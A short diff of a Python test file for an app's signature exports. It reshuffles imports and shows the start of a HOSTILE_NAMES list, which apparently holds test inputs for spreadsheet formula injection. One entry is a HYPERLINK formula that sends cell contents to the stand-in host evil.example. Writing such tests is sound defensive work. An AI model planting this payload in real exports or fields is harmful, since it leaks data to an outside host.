@@ -16,8 +16,8 @@ from typer.testing import CliRunner
 from app import cli, exports
 from app.db import utcnow
 from app.models import ExportLog, Signature
-from tests.seed import add_signatures, bearer, bulk_confirmed, organiser, settings_env, signature_values
-from tests.support import make_settings
+from tests.seed import add_signatures, bearer, bulk_confirmed, organiser, signature_values
+from tests.support import make_settings, settings_env
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
